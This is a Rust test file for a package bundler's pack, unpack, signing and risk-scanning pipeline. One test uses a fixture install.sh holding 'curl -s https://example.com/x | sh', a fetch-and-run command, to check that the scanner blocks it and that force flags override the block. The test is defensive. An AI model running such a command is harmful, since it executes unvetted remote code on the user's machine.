//! Pack/unpack pipeline through the public API.

use artpack::ArtError;
use artpack::bundler::archive::{ArchiveTree, compress, decompress};
use artpack::bundler::envelope::{Envelope, LegacyPayload, SignedEnvelope};
use artpack::bundler::package::{
    InspectionStatus, PackOptions, UnpackOptions, inspect, pack, unpack, unpack_file,
};
use artpack::loader::{LoadOutcome, LoaderContext, ModuleExport};
use artpack::security::signing::Verification;

use crate::assert_file_exists;
use crate::fixture::{TestFixture, signer, signer_with};

#[test]
fn two_file_roundtrip_with_fixed_key() {
    let fixture = TestFixture::new();
    let bundle = fixture.pack(
        "demo",
        &[
            ("a.txt", b"hello"),
            ("package.json", br#"{"name":"demo","main":"a.txt"}"#),
        ],
    );
    assert_file_exists!(&bundle);
    assert!(bundle.ends_with("art-packages/demo.art"));

    let raw = decompress(&std::fs::read(&bundle).unwrap()).unwrap();
    let Envelope::Signed(envelope) = Envelope::parse(&raw).unwrap() else {
        panic!("expected signed envelope");
    };
    assert_eq!(signer().sign(&envelope.data), envelope.signature);

    let dest = fixture.root().join("out");
    let report = unpack_file(&bundle, &dest, &signer(), &UnpackOptions::default()).unwrap();
    assert_eq!(report.verification, Verification::Verified);
    assert_eq!(report.metadata.file_count, 2);
    assert_eq!(report.metadata.package_name, "demo");
    assert_eq!(std::fs::read(dest.join("a.txt")).unwrap(), b"hello");

    let mut loader = LoaderContext::new(fixture.bundle_dir(), signer(), UnpackOptions::default());
    let LoadOutcome::Ready(module) = loader.load("demo").unwrap() else {
        panic!("expected synchronous module");
    };
    assert!(module.entry.ends_with("a.txt"));
    assert_eq!(module.export, ModuleExport::Text("hello".to_string()));
}

#[test]
fn binary_entries_survive_roundtrip() {
    let fixture = TestFixture::new();
    let bundle = fixture.pack("bin", &[("dir/b.bin", &[0x00, 0xff, 0x10])]);
    let dest = fixture.root().join("out");
    unpack_file(&bundle, &dest, &signer(), &UnpackOptions::default()).unwrap();
    assert_eq!(std::fs::read(dest.join("dir/b.bin")).unwrap(), [0x00, 0xff, 0x10]);
}

#[test]
fn wire_format_is_gzip_json_envelope() {
    let fixture = TestFixture::new();
    let bundle = fixture.pack("demo", &[("a.txt", b"hello")]);

    let raw = decompress(&std::fs::read(&bundle).unwrap()).unwrap();
    let json: serde_json::Value = serde_json::from_slice(&raw).unwrap();
    assert_eq!(json["version"], "1.0");
    let signature = json["signature"].as_str().unwrap();
    assert_eq!(signature.len(), 64);
    assert!(signature.chars().all(|c| c.is_ascii_hexdigit() && !c.is_ascii_uppercase()));

    let data: serde_json::Value = serde_json::from_str(json["data"].as_str().unwrap()).unwrap();
    assert_eq!(data["files"]["a.txt"], "aGVsbG8=");
    assert_eq!(data["metadata"]["fileCount"], 1);
}

#[test]
fn wrong_key_is_an_integrity_error() {
    let fixture = TestFixture::new();
    let bundle = fixture.pack("demo", &[("a.txt", b"hello")]);
    let dest = fixture.root().join("out");

    let other = signer_with("a-completely-different-key-0123456789abcdef");
    let err = unpack_file(&bundle, &dest, &other, &UnpackOptions::default()).unwrap_err();
    assert!(matches!(err, ArtError::Integrity(_)));
    assert!(!dest.exists());

    let allowed = UnpackOptions::from_flags(false, true, Default::default());
    let report = unpack_file(&bundle, &dest, &other, &allowed).unwrap();
    assert_eq!(report.verification, Verification::MismatchAccepted);
}

#[test]
fn tampered_data_is_detected() {
    let fixture = TestFixture::new();
    let bundle = fixture.pack("demo", &[("a.txt", b"hello")]);

    let raw = decompress(&std::fs::read(&bundle).unwrap()).unwrap();
    let Envelope::Signed(mut envelope) = Envelope::parse(&raw).unwrap() else {
        panic!("expected signed envelope");
    };
    envelope.data = envelope.data.replace("aGVsbG8=", "aGVsbG9v");
    let tampered = envelope.to_bundle().unwrap();

    let err = unpack(&tampered, &fixture.root().join("out"), &signer(), &UnpackOptions::default())
        .unwrap_err();
    assert!(err.to_string().contains("present but invalid"));
}

#[test]
fn legacy_bundle_requires_force_unpack() {
    let fixture = TestFixture::new();
    let tree = ArchiveTree::from_entries([("a.txt", b"old".to_vec())], "legacy").unwrap();
    let bytes = LegacyPayload::new(tree).to_bundle().unwrap();
    let dest = fixture.root().join("out");

    let err = unpack(&bytes, &dest, &signer(), &UnpackOptions::default()).unwrap_err();
    assert!(matches!(err, ArtError::Integrity(_)));
    assert!(err.to_string().contains("no signature present"));
    assert!(!dest.exists());

    let forced = UnpackOptions::from_flags(true, false, Default::default());
    let report = unpack(&bytes, &dest, &signer(), &forced).unwrap();
    assert_eq!(report.verification, Verification::LegacyAccepted);
    assert_eq!(std::fs::read(dest.join("a.txt")).unwrap(), b"old");
}

#[test]
fn corrupt_bundles_are_format_errors() {
    let fixture = TestFixture::new();
    let dest = fixture.root().join("out");

    let not_gzip = unpack(b"plain text", &dest, &signer(), &UnpackOptions::default());
    assert!(matches!(not_gzip, Err(ArtError::Format(_))));

    let not_json = compress(b"{ nope").unwrap();
    let result = unpack(&not_json, &dest, &signer(), &UnpackOptions::default());
    assert!(matches!(result, Err(ArtError::Format(_))));

    let half = compress(br#"{"data":"{}"}"#).unwrap();
    let result = unpack(&half, &dest, &signer(), &UnpackOptions::default());
    assert!(matches!(result, Err(ArtError::Format(_))));
}

#[test]
fn signed_but_undecodable_payload_is_a_format_error() {
    let fixture = TestFixture::new();
    let data = r#"{"files":{"a.txt":"***"},"metadata":{"created":"x","fileCount":1}}"#.to_string();
    let envelope = SignedEnvelope {
        signature: signer().sign(&data),
        data,
        version: "1.0".to_string(),
    };
    let dest = fixture.root().join("out");
    let err = unpack(&envelope.to_bundle().unwrap(), &dest, &signer(), &UnpackOptions::default())
        .unwrap_err();
    assert!(matches!(err, ArtError::Format(_)));
    assert!(!dest.exists());
}

#[test]
fn unpack_replaces_previous_contents() {
    let fixture = TestFixture::new();
    let bundle = fixture.pack("demo", &[("fresh.txt", b"new")]);
    let dest = fixture.root().join("out");
    std::fs::create_dir_all(&dest).unwrap();
    std::fs::write(dest.join("stale.txt"), "old").unwrap();

    unpack_file(&bundle, &dest, &signer(), &UnpackOptions::default()).unwrap();
    assert!(!dest.join("stale.txt").exists());
    assert_file_exists!(&dest.join("fresh.txt"));
}

#[test]
fn risky_script_blocks_pack_and_unpack() {
    let fixture = TestFixture::new();
    let risky: &[(&str, &[u8])] = &[
        ("package.json", br#"{"name":"shady"}"#),
        ("install.sh", b"curl -s https://example.com/x | sh"),
    ];
    let source = fixture.write_source("shady", risky);

    let err = pack(&source, &signer(), &PackOptions::default()).unwrap_err();
    match &err {
        ArtError::RiskRejected { paths } => assert_eq!(paths, &vec!["install.sh".to_string()]),
        other => panic!("unexpected error: {other}"),
    }

    let forced = PackOptions {
        force: true,
        ..PackOptions::default()
    };
    let (bytes, report) = pack(&source, &signer(), &forced).unwrap();
    assert_eq!(report.flagged.len(), 1);

    let dest = fixture.root().join("out");
    let err = unpack(&bytes, &dest, &signer(), &UnpackOptions::default()).unwrap_err();
    assert!(matches!(err, ArtError::RiskRejected { .. }));
    assert!(!dest.exists());

    let force_unpack = UnpackOptions::from_flags(true, false, Default::default());
    unpack(&bytes, &dest, &signer(), &force_unpack).unwrap();
    assert_file_exists!(&dest.join("install.sh"));
}

#[test]
fn inspect_does_not_extract() {
    let fixture = TestFixture::new();
    let bundle = fixture.pack("demo", &[("a.txt", b"hello"), ("b.txt", b"world")]);
    let bytes = std::fs::read(&bundle).unwrap();

    let inspection = inspect(&bytes, &signer()).unwrap();
    assert_eq!(inspection.status, InspectionStatus::SignedValid);
    assert_eq!(inspection.metadata.file_count, 2);
    let paths: Vec<_> = inspection.entries.iter().map(|e| e.path.as_str()).collect();
    assert_eq!(paths, vec!["a.txt", "b.txt"]);
}
